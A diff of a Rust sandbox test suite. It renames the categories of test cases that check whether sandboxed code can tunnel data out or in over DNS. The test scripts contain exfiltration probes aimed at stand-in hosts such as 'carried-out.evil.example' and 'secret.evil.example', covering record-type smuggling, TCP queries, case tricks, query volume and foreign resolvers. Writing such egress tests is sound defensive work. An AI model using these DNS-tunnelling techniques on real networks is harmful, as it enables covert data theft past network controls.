@@ -7,7 +7,7 @@ macro_rules! kind {
     ($name:literal, $number:literal) => {
         Attempt::new(
             $name,
-            "net_types",
+            "types",
             ALLOWED,
             concat!(
                 "verdict(any(word in ask('in.tunnel.allowed.example', ",
@@ -21,14 +21,14 @@ macro_rules! kind {
 /// Another resolver, which anybody may ask where everything public may be reached.
 macro_rules! other {
     ($name:literal, $script:literal) => {
-        Attempt::new($name, "net_udp", Policy::Public, $script)
+        Attempt::new($name, "network_namespace", Policy::Public, $script)
     };
 }
 
 /// The same over TCP, where no rule names it.
 macro_rules! stream {
     ($name:literal, $script:literal) => {
-        Attempt::new($name, "net_rules", ALLOWED, $script)
+        Attempt::new($name, "rules", ALLOWED, $script)
     };
 }
 
@@ -64,34 +64,34 @@ verdict(False)";
 
 #[rustfmt::skip]
 pub(crate) const ATTEMPTS: &[Attempt] = &[
-    Attempt::new("cannot_carry_out_by_a_name", "net_names", ALLOWED,
+    Attempt::new("cannot_carry_out_by_a_name", "names", ALLOWED,
         "ask('carried-out.evil.example', 1)\nverdict(False)").when(Success::Asked("carried-out")),
-    Attempt::new("cannot_carry_out_by_a_name_over_tcp", "net_names", ALLOWED,
+    Attempt::new("cannot_carry_out_by_a_name_over_tcp", "names", ALLOWED,
         "with connect(resolver(), 53) as stream:\n    \
         ask_by_stream(stream, 'carried-by-tcp.evil.example', 1)\nverdict(False)")
         .when(Success::Asked("carried-by-tcp")),
-    Attempt::new("cannot_carry_out_by_capitals", "net_names", ALLOWED,
+    Attempt::new("cannot_carry_out_by_capitals", "questions", ALLOWED,
         "ask('CaRrIeD.tunnel.allowed.example', 1)\nverdict(False)")
         .when(Success::Asked("CaRrIeD")),
-    Attempt::new("cannot_carry_out_by_volume", "net_rate", ALLOWED, VOLUME)
+    Attempt::new("cannot_carry_out_by_volume", "rate", ALLOWED, VOLUME)
         .when(Success::AskedOften("volume", 1_000)),
-    Attempt::new("cannot_carry_out_by_a_reverse_name", "net_types", ALLOWED,
+    Attempt::new("cannot_carry_out_by_a_reverse_name", "questions", ALLOWED,
         "ask('9.8.7.6.carried-back.in-addr.arpa', 12)\nverdict(False)")
         .when(Success::Asked("carried-back")),
-    Attempt::new("cannot_carry_out_by_options", "net_names", ALLOWED, OPTIONS)
+    Attempt::new("cannot_carry_out_by_options", "questions", ALLOWED, OPTIONS)
         .when(Success::Option("option-leaks")),
-    Attempt::new("cannot_ask_two_questions", "net_names", ALLOWED, TWO)
+    Attempt::new("cannot_ask_two_questions", "questions", ALLOWED, TWO)
         .when(Success::Asked("second-question")),
     kind!("cannot_carry_in_by_txt", "16"),
     kind!("cannot_carry_in_by_null", "10"),
     kind!("cannot_carry_in_by_any", "255"),
     kind!("cannot_carry_in_by_mx", "15"),
     kind!("cannot_carry_in_by_srv", "33"),
-    Attempt::new("cannot_carry_in_by_an_alias", "net_types", ALLOWED,
+    Attempt::new("cannot_carry_in_by_an_alias", "questions", ALLOWED,
         "verdict(b'there' in ask('in.chain.allowed.example', 1))"),
-    Attempt::new("cannot_learn_keys_that_hide_names", "net_types", ALLOWED,
+    Attempt::new("cannot_learn_keys_that_hide_names", "types", ALLOWED,
         "verdict(answers(ask('txt.allowed.example', 65)))"),
-    Attempt::new("cannot_carry_in_by_txt_over_tcp", "net_types", ALLOWED, OVER_TCP),
+    Attempt::new("cannot_carry_in_by_txt_over_tcp", "types", ALLOWED, OVER_TCP),
     other!("cannot_ask_another_resolver",
         "verdict(MARK in ask('secret.evil.example', 16, FOREIGN_RESOLVER4))"),
     other!("cannot_ask_another_resolver6",
